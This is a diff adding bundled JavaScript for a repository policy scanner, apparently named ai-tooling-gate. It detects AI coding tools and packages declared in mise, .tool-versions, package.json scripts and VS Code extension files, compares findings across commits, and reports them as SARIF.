+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+
+
+
+
+/** @deprecated use `import * as ... from 'smol-toml'` instead */
+/* harmony default export */ const smol_toml_dist = ({ parse: parse_parse, stringify: stringify_stringify, TomlDate: TomlDate, TomlError: TomlError });
+
+;// CONCATENATED MODULE: ./src/detectors/devcontainer/tool-backends.ts
+// Tools named with a mise/asdf backend (`npm:@anthropic-ai/claude-code`, `pipx:aider-chat`,
+// `github:openai/codex`) as components of their ecosystem.
+
+
+function backendTool(tool, version) {
+    const m = /^([a-z]+):(.+)$/.exec(tool.trim());
+    if (!m)
+        return null;
+    const backend = m[1];
+    const name = m[2].replace(/\[.*\]$/, '');
+    const v = version.trim();
+    const at = (exact) => exact ? { version: exact } : { version: null, spec: v || 'latest' };
+    if (backend === 'npm') {
+        if (!/^(@[\w.~-]+\/)?[\w.~-]+$/.test(name))
+            return null;
+        return { ecosystem: 'npm', name, ...at(exactVersion(v)), sourceKind: 'registry' };
+    }
+    if (backend === 'pipx' || backend === 'uvx') {
+        if (!/^[A-Za-z0-9][\w.-]*$/.test(name))
+            return null;
+        return {
+            ecosystem: 'pypi',
+            name: normalizePypiName(name),
+            ...at(/^\d[\w.+!-]*$/.test(v) ? v : null),
+            sourceKind: 'registry',
+        };
+    }
+    if (backend === 'github' || backend === 'ubi' || backend === 'aqua') {
+        const r = /^([\w.-]+)\/([\w.-]+)$/.exec(name);
+        if (!r)
+            return null;
+        const rel = releaseDownload(`https://github.com/${r[1]}/${r[2]}/releases/download/x/x`);
+        if (!rel)
+            return null;
+        return { ecosystem: 'installer', name: rel.name, ...at(versionFromTag(v)), sourceKind: 'url' };
+    }
+    return null;
+}
+
+;// CONCATENATED MODULE: ./src/detectors/mise-toml.ts
+// mise configuration (`mise.toml`, `.mise.toml`, `mise.<env>.toml`, `.config/mise.toml`,
+// `.mise/config.toml`, `.config/mise/config.toml`): the `[tools]` table with backends
+// (`"npm:@openai/codex" = "latest"`, `"pipx:aider-chat" = { version = "0.86.1" }`).
+
+
+
+const MISE_SOURCE = 'mise.toml';
+function isMisePath(p) {
+    return (/(^|\/)\.?mise(\.[\w-]+)?\.toml$/.test(p) ||
+        /(^|\/)\.?mise\/config(\.[\w-]+)?\.toml$/.test(p) ||
+        /(^|\/)\.config\/mise(\.[\w-]+)?\.toml$/.test(p) ||
+        /(^|\/)\.config\/mise\/config(\.[\w-]+)?\.toml$/.test(p));
+}
+function scanMiseToml(path, text) {
+    let doc;
+    try {
+        doc = parse_parse(text);
+    }
+    catch (e) {
+        const line = e instanceof TomlError ? e.line : undefined;
+        return {
+            components: [],
+            errors: [
+                {
+                    file: path,
+                    ...(line ? { line } : {}),
+                    message: `invalid TOML: ${e.message.split('\n')[0]}`,
+                },
+            ],
+        };
+    }
+    const tools = doc.tools;
+    if (!tools || typeof tools !== 'object')
+        return { components: [], errors: [] };
+    const keyLines = toolKeyLines(text);
+    const components = [];
+    for (const [tool, value] of Object.entries(tools)) {
+        const versions = [];
+        const add = (v) => {
+            if (typeof v === 'string' || typeof v === 'number')
+                versions.push(String(v));
+            else if (v && typeof v === 'object' && !Array.isArray(v) && 'version' in v)
+                add(v.version);
+        };
+        if (Array.isArray(value))
+            value.forEach(add);
+        else
+            add(value);
+        for (const v of versions) {
+            const t = backendTool(tool, v);
+            if (!t)
+                continue;
+            components.push(makeComponent({ ...t, location: { file: path, line: keyLines.get(tool) ?? 1 }, source: MISE_SOURCE }));
+        }
+    }
+    return { components, errors: [] };
+}
+/** Lines of the keys of the `[tools]` table (and of `[tools."npm:x"]` sub-tables). */
+function toolKeyLines(text) {
+    const out = new Map();
+    const lines = text.split('\n');
+    let inTools = false;
+    for (let i = 0; i < lines.length; i++) {
+        const line = lines[i].trim();
+        const header = /^\[\s*([^\]]+?)\s*\]$/.exec(line);
+        if (header) {
+            const h = header[1];
+            inTools = h === 'tools';
+            const sub = /^tools\.\s*(?:"([^"]+)"|'([^']+)'|([\w.-]+))$/.exec(h);
+            if (sub) {
+                const k = sub[1] ?? sub[2] ?? sub[3];
+                if (!out.has(k))
+                    out.set(k, i + 1);
+            }
+            continue;
+        }
+        if (!inTools)
+            continue;
+        const key = /^(?:"((?:[^"\\]|\\.)*)"|'([^']*)'|([\w.:@/-]+))\s*=/.exec(line);
+        if (key) {
+            const k = key[1] ?? key[2] ?? key[3];
+            if (!out.has(k))
+                out.set(k, i + 1);
+        }
+    }
+    return out;
+}
+const miseTomlDetector = {
+    id: MISE_SOURCE,
+    matches: isMisePath,
+    detect: ({ path, text }) => scanMiseToml(path, text),
+};
+
+;// CONCATENATED MODULE: ./src/detectors/package-json-scripts.ts
+// package.json `scripts` only (the dependency sections belong to the package.json detector):
+// installs and one-off runs (`npx`, `pnpm dlx`, `npm i -g`) in each script, at the script's line.
+
+
+
+
+const PACKAGE_JSON_SCRIPTS_SOURCE = 'package.json scripts';
+function scanPackageJsonScripts({ path, text, limits, }) {
+    const lines = new LineIndex(text);
+    const parsed = parseJsonc(text, path, lines, limits.maxDepth);
+    // Syntax errors in package.json are the package.json detector's to report.
+    const scanner = new CommandScanner();
+    for (const s of props(at(parsed.root, ['scripts']))) {
+        const script = strValue(s.value);
+        if (script === undefined)
+            continue;
+        const line = lines.line(s.keyNode.offset);
+        scanner.scan(script, () => line);
+    }
+    scanner.finish();
+    return {
+        components: scanner.findings.map((f) => findingComponent(f, path, PACKAGE_JSON_SCRIPTS_SOURCE)),
+        errors: scanner.problems.map((p) => problemError(p, path, 'script')),
+    };
+}
+const packageJsonScriptsDetector = {
+    id: PACKAGE_JSON_SCRIPTS_SOURCE,
+    matches: (p) => p === 'package.json' || p.endsWith('/package.json'),
+    detect: scanPackageJsonScripts,
+};
+
+;// CONCATENATED MODULE: ./src/detectors/tool-versions.ts
+
+
+const TOOL_VERSIONS_SOURCE = '.tool-versions';
+function scanToolVersions(path, text) {
+    const components = [];
+    const lines = text.split('\n');
+    for (let i = 0; i < lines.length; i++) {
+        const line = lines[i].replace(/#.*$/, '').trim();
+        const m = /^(\S+)\s+(\S+)/.exec(line);
+        if (!m)
+            continue;
+        const t = backendTool(m[1], m[2]);
+        if (!t)
+            continue;
+        components.push(makeComponent({
+            ...t,
+            location: { file: path, line: i + 1 },
+            source: TOOL_VERSIONS_SOURCE,
+        }));
+    }
+    return { components, errors: [] };
+}
+const toolVersionsDetector = {
+    id: TOOL_VERSIONS_SOURCE,
+    matches: (p) => p === '.tool-versions' || p.endsWith('/.tool-versions'),
+    detect: ({ path, text }) => scanToolVersions(path, text),
+};
+
+;// CONCATENATED MODULE: ./src/detectors/vscode-extensions.ts
+
+
+
+const VSCODE_EXTENSIONS_SOURCE = '.vscode/extensions.json';
+function scanVscodeExtensions({ path, text, limits, }) {
+    const lines = new LineIndex(text);
+    const { root, errors } = parseJsonc(text, path, lines, limits.maxDepth);
+    const components = [];
+    for (const n of strings(at(root, ['recommendations']))) {
+        const c = extensionComponent(strValue(n) ?? '', path, lines.line(n.offset), VSCODE_EXTENSIONS_SOURCE);
+        if (c)
+            components.push(c);
+    }
+    return { components, errors };
+}
+const vscodeExtensionsDetector = {
+    id: VSCODE_EXTENSIONS_SOURCE,
+    matches: (p) => p === '.vscode/extensions.json' || p.endsWith('/.vscode/extensions.json'),
+    detect: scanVscodeExtensions,
+};
+
+;// CONCATENATED MODULE: ./src/detectors/index.ts
+
+
+
+
+
+
+
+
+
+
+
+/**
+ * Every detector, one per file format. A new format is one module in this folder and one line
+ * here.
+ */
+const detectors = [
+    devcontainerDetector,
+    devcontainerLockDetector,
+    dockerfileDetector,
+    composeDetector,
+    githubWorkflowDetector,
+    shellScriptDetector,
+    packageJsonScriptsDetector,
+    toolVersionsDetector,
+    miseTomlDetector,
+    brewfileDetector,
+    vscodeExtensionsDetector,
+];
+
+;// CONCATENATED MODULE: ./src/sources/source.ts
+class SourceReadError extends Error {
+}
+/** Normalises a path relative to the root; returns null when it escapes the root. */
+function normalizeRelative(path) {
+    const parts = [];
+    for (const part of path.replace(/\\/g, '/').split('/')) {
+        if (part === '' || part === '.')
+            continue;
+        if (part === '..') {
+            if (parts.length === 0)
+                return null;
+            parts.pop();
+        }
+        else
+            parts.push(part);
+    }
+    return parts.join('/');
+}
+/** Directories never scanned, wherever they are. */
+function isSkippedPath(path) {
+    return /(^|\/)(node_modules|\.git)(\/|$)/.test(path);
+}
+
+;// CONCATENATED MODULE: ./src/util/text.ts
+// Decoding of file bytes into text: UTF-8 (with or without BOM) and UTF-16 with a BOM are read;
+// invalid UTF-8 and binary data are errors, so a lockfile that is not text fails closed.
+class DecodeError extends Error {
+    line;
+    constructor(message, line) {
+        super(message);
+        this.line = line;
+    }
+}
+const utf8 = new TextDecoder('utf-8', { fatal: true, ignoreBOM: false });
+const utf16le = new TextDecoder('utf-16le', { fatal: true, ignoreBOM: false });
+const utf16be = new TextDecoder('utf-16be', { fatal: true, ignoreBOM: false });
+function decodeText(bytes) {
+    let text;
+    if (bytes.length >= 2 && bytes[0] === 0xff && bytes[1] === 0xfe) {
+        text = decodeWith(utf16le, bytes, 'UTF-16LE');
+    }
+    else if (bytes.length >= 2 && bytes[0] === 0xfe && bytes[1] === 0xff) {
+        text = decodeWith(utf16be, bytes, 'UTF-16BE');
+    }
+    else {
+        text = decodeWith(utf8, bytes, 'UTF-8');
+    }
+    const nul = text.indexOf('\u0000');
+    if (nul !== -1) {
+        throw new DecodeError('binary data (NUL byte) in a text file', lineAt(text, nul));
+    }
+    return text;
+}
+function decodeWith(decoder, bytes, name) {
+    try {
+        return decoder.decode(bytes);
+    }
+    catch {
+        // Find the first bad byte's line for a located error (UTF-8 only; UTF-16 rarely breaks).
+        let line;
+        if (name === 'UTF-8') {
+            const bad = firstInvalidUtf8(bytes);
+            if (bad >= 0) {
+                line = 1;
+                for (let i = 0; i < bad; i++)
+                    if (bytes[i] === 0x0a)
+                        line++;
+            }
+        }
+        throw new DecodeError(`not valid ${name} text`, line);
+    }
+}
+function firstInvalidUtf8(b) {
+    let i = 0;
+    while (i < b.length) {
+        const c = b[i];
+        let n;
+        if (c < 0x80)
+            n = 0;
+        else if (c >= 0xc2 && c <= 0xdf)
+            n = 1;
+        else if (c >= 0xe0 && c <= 0xef)
+            n = 2;
+        else if (c >= 0xf0 && c <= 0xf4)
+            n = 3;
+        else
+            return i;
+        if (i + n >= b.length && n > 0)
+            return i;
+        for (let k = 1; k <= n; k++)
+            if ((b[i + k] & 0xc0) !== 0x80)
+                return i;
+        i += n + 1;
+    }
+    return -1;
+}
+/** 1-based line number of a character offset. */
+function lineAt(text, offset) {
+    let line = 1;
+    let i = text.indexOf('\n');
+    while (i !== -1 && i < offset) {
+        line++;
+        i = text.indexOf('\n', i + 1);
+    }
+    return line;
+}
+
+;// CONCATENATED MODULE: ./src/engine.ts
+
+
+
+
+/** Which detectors read a path. */
+function detectorsFor(path, list = detectors) {
+    return list.filter((d) => d.matches(path));
+}
+/**
+ * Runs every detector over every file it reads in a source and returns the located components
+ * and the errors. Never throws for a file's content: a file that cannot be read or parsed becomes
+ * an error entry naming it (the gate then fails closed).
+ */
+async function inventory(source, options = {}) {
+    const limits = options.limits ?? defaultLimits;
+    const list = options.detectors ?? detectors;
+    const paths = await source.list();
+    const work = [];
+    for (const path of paths) {
+        if (options.only && !options.only.has(path))
+            continue;
+        const ds = detectorsFor(path, list);
+        if (ds.length > 0)
+            work.push({ path, detectors: ds });
+    }
+    const textCache = new Map();
+    const readText = (path) => {
+        const rel = normalizeRelative(path);
+        if (rel === null)
+            return Promise.resolve(null);
+        let p = textCache.get(rel);
+        if (!p) {
+            p = source
+                .read(rel, limits.maxFileBytes)
+                .then((b) => (b === null ? null : decodeText(b)))
+                .catch(() => null);
+            textCache.set(rel, p);
+        }
+        return p;
+    };
+    const results = new Array(work.length);
+    let next = 0;
+    const worker = async () => {
+        while (next < work.length) {
+            const i = next++;
+            const reads = new Set();
+            const recordingRead = (p) => {
+                const rel = normalizeRelative(p);
+                if (rel !== null)
+                    reads.add(rel);
+                return readText(p);
+            };
+            const r = await scanFile(source, work[i].path, work[i].detectors, limits, recordingRead);
+            results[i] = { ...r, reads: [...reads] };
+        }
+    };
+    await Promise.all(Array.from({ length: Math.max(1, options.concurrency ?? 8) }, worker));
+    const components = [];
+    const errors = [];
+    const byFile = new Map();
+    for (const [i, r] of results.entries()) {
+        byFile.set(work[i].path, r);
+        for (const c of r.components)
+            components.push(c);
+        for (const e of r.errors)
+            errors.push(e);
+    }
+    return {
+        components: dedupeAndSort(components),
+        errors: errors.sort(compareErrors),
+        filesScanned: work.length,
+        files: work.map((w) => w.path),
+        byFile,
+    };
+}
+async function scanFile(source, path, detectors, limits, readText) {
+    let bytes;
+    try {
+        bytes = await source.read(path, limits.maxFileBytes);
+    }
+    catch (e) {
+        const message = e instanceof SourceReadError ? e.message : `cannot be read: ${errorMessage(e)}`;
+        return { components: [], errors: [{ file: path, message }] };
+    }
+    if (bytes === null)
+        return { components: [], errors: [] };
+    let text;
+    let decodeError;
+    const components = [];
+    const errors = [];
+    for (const detector of detectors) {
+        if (!detector.binary && text === undefined && decodeError === undefined) {
+            try {
+                text = decodeText(bytes);
+            }
+            catch (e) {
+                decodeError = {
+                    file: path,
+                    ...(e instanceof DecodeError && e.line ? { line: e.line } : {}),
+                    message: e instanceof DecodeError ? e.message : errorMessage(e),
+                };
+                errors.push(decodeError);
+            }
+        }
+        if (!detector.binary && decodeError)
+            continue;
+        const input = { path, text: text ?? '', bytes, readFile: readText, limits };
+        try {
+            const result = await detector.detect(input);
+            if (result.components.length > limits.maxComponentsPerFile) {
+                errors.push({
+                    file: path,
+                    message: `${result.components.length} components exceed the limit of ${limits.maxComponentsPerFile} per file`,
+                });
+                continue;
+            }
+            for (const c of result.components)
+                components.push(c);
+            for (const err of result.errors)
+                errors.push(err);
+        }
+        catch (e) {
+            // A detector bug or a parser blowing up on hostile input: report it, located, never crash.
+            errors.push({ file: path, message: `${detector.id}: ${errorMessage(e)}` });
+        }
+    }
+    return { components, errors };
+}
+function errorMessage(e) {
+    if (e instanceof RangeError && /call stack/i.test(e.message))
+        return 'nesting too deep to parse';
+    if (e instanceof Error)
+        return e.message.split('\n')[0] ?? String(e);
+    return String(e);
+}
+function componentKey(c) {
+    return [
+        c.location.file,
+        c.location.line,
+        c.ecosystem,
+        c.name,
+        c.version ?? '',
+        c.spec ?? '',
+        c.alias ?? '',
+        c.source,
+    ].join('\u0000');
+}
+function dedupeAndSort(components) {
+    const seen = new Map();
+    for (const c of components) {
+        const k = componentKey(c);
+        if (!seen.has(k))
+            seen.set(k, c);
+    }
+    return [...seen.values()].sort(compareComponents);
+}
+function compareComponents(a, b) {
+    return (cmp(a.location.file, b.location.file) ||
+        a.location.line - b.location.line ||
+        cmp(a.ecosystem, b.ecosystem) ||
+        cmp(a.name, b.name) ||
+        cmp(a.version ?? '', b.version ?? ''));
+}
+function compareErrors(a, b) {
+    return cmp(a.file, b.file) || (a.line ?? 0) - (b.line ?? 0) || cmp(a.message, b.message);
+}
+function cmp(a, b) {
+    return a < b ? -1 : a > b ? 1 : 0;
+}
+
+;// CONCATENATED MODULE: ./src/diff.ts
+// Diff mode: which findings a change introduces, keeps or removes, and which files it changes.
+
+
+function hasBlobIds(s) {
+    return typeof s.blobId === 'function';
+}
+/**
+ * The identity of a finding across commits: rule, carrier, version (or the spec written when the
+ * version is unknown) and file — never the line, so moving an entry is not introducing it.
+ */
+function findingIdentity(f) {
+    const c = f.component;
+    return [
+        f.ruleId,
+        c.ecosystem,
+        c.name,
+        c.version === null ? `spec:${c.spec ?? ''}` : c.version,
+        f.location.file,
+    ].join('\u0000');
+}
+/**
+ * Marks each head finding `introduced` (no finding of the same identity at base) or `unchanged`,
+ * and adds each base finding with no counterpart at head as `removed`. Identities are counted, so
+ * a second copy of an existing finding in the same file is introduced.
+ */
+function classifyFindings(base, head) {
+    const remaining = new Map();
+    for (const f of base) {
+        const k = findingIdentity(f);
+        const list = remaining.get(k);
+        if (list)
+            list.push(f);
+        else
+            remaining.set(k, [f]);
+    }
+    const out = [];
+    for (const f of head) {
+        const list = remaining.get(findingIdentity(f));
+        const status = list && list.length > 0 ? 'unchanged' : 'introduced';
+        if (list && list.length > 0)
+            list.shift();
+        out.push({ ...f, status });
+    }
+    for (const f of base) {
+        const list = remaining.get(findingIdentity(f));
+        if (list && list.includes(f))
+            out.push({ ...f, status: 'removed' });
+    }
+    return out;
+}
+/**
+ * Detects components at head and at base, parsing each unchanged file once: a detector file is
+ * re-detected at base only when it changed or when a file it read (`DetectInput.readFile`) did.
+ * Reading the same inputs, a detector reads the same files, so the reads recorded at head are the
+ * reads it made at base for every file taken as unchanged.
+ */
+async function diffInventory(base, head, options = {}) {
+    const { changed: hint, ...inventoryOptions } = options;
+    const headInv = await inventory(head, inventoryOptions);
+    const maxBytes = options.limits?.maxFileBytes ?? 64 * 1024 * 1024;
+    const memo = new Map();
+    const isChanged = (path) => {
+        let p = memo.get(path);
+        if (!p) {
+            p = hint ? Promise.resolve(hint.has(path)) : contentDiffers(base, head, path, maxBytes);
+            memo.set(path, p);
+        }
+        return p;
+    };
+    // A file read through readFile may be one the change list does not cover (an ignored `.env`
+    // on disk in the CLI's work tree): it is compared directly as well.
+    const readMemo = new Map();
+    const isReadChanged = (path) => {
+        let p = readMemo.get(path);
+        if (!p) {
+            p = isChanged(path).then((c) => c || (hint ? contentDiffers(base, head, path, maxBytes) : false));
+            readMemo.set(path, p);
+        }
+        return p;
+    };
+    const dirty = new Set();
+    for (const [path, result] of headInv.byFile) {
+        if (await isChanged(path)) {
+            dirty.add(path);
+            continue;
+        }
+        for (const read of result.reads) {
+            if (await isReadChanged(read)) {
+                dirty.add(path);
+                break;
+            }
+        }
+    }
+    // Detector files present at base only (deleted or renamed away): scanned at base.
+    const headFiles = new Set(headInv.files);
+    const detectorList = options.detectors;
+    const baseOnly = [];
+    const candidates = hint ? [...hint] : await base.list();
+    for (const path of candidates) {
+        if (headFiles.has(path))
+            continue;
+        if (detectorsFor(path, detectorList).length === 0)
+            continue;
+        baseOnly.push(path);
+    }
+    const toScanAtBase = [...new Set([...dirty, ...baseOnly])].sort();
+    const baseInv = await inventory(restrictedSource(base, toScanAtBase), inventoryOptions);
+    const baseComponents = [...baseInv.components];
+    for (const [path, result] of headInv.byFile) {
+        if (!dirty.has(path))
+            for (const c of result.components)
+                baseComponents.push(c);
+    }
+    const headErrors = [];
+    for (const [path, result] of headInv.byFile) {
+        for (const e of result.errors)
+            headErrors.push({ ...e, status: dirty.has(path) ? 'introduced' : 'unchanged' });
+    }
+    return {
+        head: headInv,
+        baseComponents,
+        baseErrors: baseInv.errors,
+        headErrors: sortErrors(headErrors),
+        dirty: [...dirty].sort(),
+        baseFilesScanned: baseInv.filesScanned,
+    };
+}
+function sortErrors(errors) {
+    return errors.sort((a, b) => (a.file < b.file ? -1 : a.file > b.file ? 1 : 0) ||
+        (a.line ?? 0) - (b.line ?? 0) ||
+        (a.message < b.message ? -1 : a.message > b.message ? 1 : 0));
+}
+/** A view of a source that lists only the given paths (which may not exist in it). */
+function restrictedSource(source, paths) {
+    return {
+        description: source.description,
+        list: () => Promise.resolve(paths),
+        read: (path, maxBytes) => source.read(path, maxBytes),
+    };
+}
+/**
+ * Whether a path differs between the trees: by blob id when both sources have them, else by a
+ * hash of the bytes. A path that cannot be read on a side (a symlink out of the tree, too large)
+ * counts by its error, so the same unreadable file on both sides is unchanged (it warns) while a
+ * newly unreadable one is changed (it fails closed).
+ */
+async function contentDiffers(base, head, path, maxBytes) {
+    const useIds = hasBlobIds(base) && hasBlobIds(head);
+    const [a, b] = await Promise.all([
+        fingerprint(base, path, maxBytes, useIds),
+        fingerprint(head, path, maxBytes, useIds),
+    ]);
+    return a !== b;
+}
+async function fingerprint(source, path, maxBytes, useIds) {
+    try {
+        if (useIds)
+            return `id:${(await source.blobId(path)) ?? 'absent'}`;
+        const bytes = await source.read(path, maxBytes);
+        return bytes === null ? 'absent' : `sha256:${(0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex')}`;
+    }
+    catch (e) {
+        return `error:${e instanceof Error ? e.message : String(e)}`;
+    }
+}
+/**
+ * A notice for a change to the policy file itself: it does not judge this change (the base
+ * policy does); it takes effect after merge. Names the rules it would add, remove or change.
+ */
+function policyChangeNotice(path, basePolicy, headPolicy) {
+    if (headPolicy === null) {
+        return {
+            kind: 'policy-changed',
+            message: `this change deletes the policy ${path}; this run judges it by the policy of the base commit, and the deletion takes effect after merge`,
+        };
+    }
+    if (headPolicy instanceof Error) {
+        return {
+            kind: 'policy-changed',
+            message: `this change edits the policy ${path}; it takes effect after merge, and as changed it is invalid: ${headPolicy.message}`,
+        };
+    }
+    const before = new Map((basePolicy?.rules ?? []).map((r) => [r.id, JSON.stringify({ ...r, origin: undefined })]));
+    const after = new Map(headPolicy.rules.map((r) => [r.id, JSON.stringify({ ...r, origin: undefined })]));
+    const added = [...after.keys()].filter((id) => !before.has(id));
+    const removed = [...before.keys()].filter((id) => !after.has(id));
+    const modified = [...after.keys()].filter((id) => before.has(id) && before.get(id) !== after.get(id));
+    const exBefore = basePolicy?.exceptions.length ?? 0;
+    const exAfter = headPolicy.exceptions.length;
+    const parts = [];
+    if (added.length)
+        parts.push(`rules added: ${added.join(', ')}`);
+    if (removed.length)
+        parts.push(`rules removed: ${removed.join(', ')}`);
+    if (modified.length)
+        parts.push(`rules changed: ${modified.join(', ')}`);
+    if (exBefore !== exAfter)
+        parts.push(`exceptions: ${exBefore} → ${exAfter}`);
+    else if (JSON.stringify(basePolicy?.exceptions.map((e) => ({ ...e, origin: undefined })) ?? []) !==
+        JSON.stringify(headPolicy.exceptions.map((e) => ({ ...e, origin: undefined })))) {
+        parts.push('exceptions changed');
+    }
+    if (JSON.stringify(basePolicy?.settings ?? {}) !== JSON.stringify(headPolicy.settings))
+        parts.push('settings changed');
+    return {
+        kind: 'policy-changed',
+        message: `this change edits the policy ${path}; this run judges it by the policy of the base commit, and the change takes effect after merge${parts.length ? ` (${parts.join('; ')})` : ''}`,
+    };
+}
+/** Where a repository keeps its policy, in the order they are looked for. */
+const DEFAULT_POLICY_PATHS = [
+    '.github/ai-tooling-policy.yml',
+    '.github/ai-tooling-policy.yaml',
+    '.github/ai-tooling-policy.json',
+];
+/**
+ * Reads a policy file from a tree (the base commit in diff mode, so a change cannot weaken the
+ * policy that judges it). Returns null when the file is not in the tree.
+ */
+async function readPolicyText(source, path) {
+    const bytes = await source.read(path, 4 * 1024 * 1024);
+    return bytes === null
+        ? null
+        : new TextDecoder('utf-8', { fatal: true }).decode(bytes).replace(/^\uFEFF/, '');
+}
+
+;// CONCATENATED MODULE: ./src/reporters/sarif.ts
+// SARIF 2.1.0 for GitHub code scanning (and any SARIF viewer).
+
+
+
+const TOOL_NAME = 'ai-tooling-gate';
+const TOOL_VERSION = '0.1.0';
+const INFORMATION_URI = 'https://github.com/ai-tooling-gate/ai-tooling-gate';
+const SCAN_ERROR_RULE = 'scan-error';
+function sarif_repoPath(prefix, file) {
+    return prefix ? `${prefix.replace(/\/+$/, '')}/${file}` : file;
+}
+function uri(path) {
+    return path.split('/').map(encodeURIComponent).join('/');
+}
+function ruleFor(f) {
+    const fail = f.action === 'fail' || (f.action === 'pass' && !f.unknownVersion);
+    const what = f.tool
+        ? `the AI coding tool ${f.tool}`
+        : `${f.component.ecosystem} package ${f.component.name}`;
+    const text = f.reason ?? `Policy rule ${f.ruleId} bans ${what}.`;
+    const markdown = [
+        `**${f.ruleId}**: ${escapeMd(text)}`,
+        '',
+        'ai-tooling-gate found a component this policy rule covers. Remove it, pin a version outside the',
+        'banned range, or add a time-limited exception to the policy with a reason.',
+        ...(f.link ? ['', `More: ${f.link}`] : []),
+    ].join('\n');
+    return {
+        id: f.ruleId,
+        name: f.ruleId
+            .replace(/[^A-Za-z0-9]+/g, ' ')
+            .trim()
+            .replace(/\s+(\w)/g, (_m, c) => c.toUpperCase()),
+        shortDescription: { text: `Banned AI tooling: ${f.ruleId}` },
+        fullDescription: { text },
+        help: { text: `${f.ruleId}: ${text}${f.link ? ` More: ${f.link}` : ''}`, markdown },
+        ...(f.link ? { helpUri: f.link } : {}),
+        defaultConfiguration: { level: fail ? 'error' : 'warning' },
+        properties: {
+            'security-severity': fail ? '8.0' : '4.0',
+            tags: ['security', 'supply-chain', 'ai-tooling', ...(f.tool ? [`tool:${f.tool}`] : [])],
+            precision: 'very-high',
+            'problem.severity': fail ? 'error' : 'warning',
+        },
+    };
+}
+function sarif_fingerprint(parts) {
+    return (0,external_node_crypto_.createHash)('sha256').update(parts).digest('hex');
+}
+/** Renders a report as SARIF 2.1.0. Removed findings are left out: they are no longer in the code. */
+function renderSarif(report, options) {
+    const gating = new Set(gateFindings(report, options.failOn));
+    const gatingErrors = new Set(gateErrors(report, options.failOn));
+    const rules = [];
+    const ruleIndex = new Map();
+    const indexOf = (rule) => {
+        let i = ruleIndex.get(rule.id);
+        if (i === undefined) {
+            i = rules.length;
+            rules.push(rule);
+            ruleIndex.set(rule.id, i);
+        }
+        return i;
+    };
+    const results = [];
+    for (const f of report.findings) {
+        if (f.status === 'removed')
+            continue;
+        const level = f.action === 'pass' ? 'note' : f.action === 'fail' ? 'error' : 'warning';
+        const file = sarif_repoPath(options.pathPrefix, f.location.file);
+        results.push({
+            ruleId: f.ruleId,
+            ruleIndex: indexOf(ruleFor(f)),
+            level,
+            message: { text: f.message },
+            locations: [
+                {
+                    physicalLocation: {
+                        artifactLocation: { uri: uri(file), uriBaseId: '%SRCROOT%' },
+                        region: {
+                            startLine: Math.max(1, f.location.line),
+                            ...(f.location.column ? { startColumn: f.location.column } : {}),
+                        },
+                    },
+                },
+            ],
+            partialFingerprints: {
+                'aiToolingGate/v1': sarif_fingerprint(findingIdentity({ ...f, location: { ...f.location, file } })),
+            },
+            ...(f.exception
+                ? {
+                    suppressions: [
+                        {
+                            kind: 'external',
+                            status: 'accepted',
+                            justification: `${f.exception.reason} (until ${f.exception.expires})`,
+                        },
+                    ],
+                }
+                : {}),
+            properties: {
+                action: f.action,
+                gating: gating.has(f),
+                ...(f.status ? { status: f.status } : {}),
+                ecosystem: f.component.ecosystem,
+                package: f.component.name,
+                version: f.component.version,
+                purl: f.component.purl,
+                ...(f.tool ? { tool: f.tool, toolVersion: f.toolVersion ?? null } : {}),
+            },
+        });
+    }
+    for (const e of report.errors) {
+        const file = sarif_repoPath(options.pathPrefix, e.file);
+        const index = indexOf({
+            id: SCAN_ERROR_RULE,
+            name: 'ScanError',
+            shortDescription: { text: 'A file that had to be scanned could not be read' },
+            fullDescription: {
+                text: 'ai-tooling-gate could not read or parse a file that may name AI tooling; the gate fails closed.',
+            },
+            help: {
+                text: 'Fix the file so it parses, or raise the scan limits if it is legitimately large.',
+                markdown: 'Fix the file so it parses, or raise the scan limits if it is legitimately large. The gate **fails closed** on files it cannot read.',
+            },
+            defaultConfiguration: { level: 'error' },
+            properties: {
+                'security-severity': '5.0',
+                tags: ['security', 'ai-tooling'],
+                precision: 'high',
+                'problem.severity': 'error',
+            },
+        });
+        results.push({
+            ruleId: SCAN_ERROR_RULE,
+            ruleIndex: index,
+            level: gatingErrors.has(e) ? 'error' : 'warning',
+            message: { text: `${e.file}${e.line ? `:${e.line}` : ''}: ${e.message}` },
+            locations: [
+                {
+                    physicalLocation: {
+                        artifactLocation: { uri: uri(file), uriBaseId: '%SRCROOT%' },
+                        region: { startLine: Math.max(1, e.line ?? 1), ...(e.column ? { startColumn: e.column } : {}) },
+                    },
+                },
+            ],
+            partialFingerprints: {
+                'aiToolingGate/v1': sarif_fingerprint([SCAN_ERROR_RULE, file, e.message].join('\u0000')),
+            },
+        });
+    }
+    const sarif = {
+        $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
+        version: '2.1.0',
+        runs: [
+            {
+                tool: {
+                    driver: {
+                        name: TOOL_NAME,
+                        version: TOOL_VERSION,
+                        semanticVersion: TOOL_VERSION,
+                        informationUri: INFORMATION_URI,
+                        rules,
+                    },
+                },
+                automationDetails: { id: `${TOOL_NAME}/${report.mode}/` },
+                invocations: [
+                    {
+                        executionSuccessful: true,
+                        toolExecutionNotifications: report.errors.map((e) => ({
+                            level: 'error',
+                            message: { text: `${e.file}${e.line ? `:${e.line}` : ''}: ${e.message}` },
+                        })),
+                    },
+                ],
+                results,
+            },
+        ],
+    };
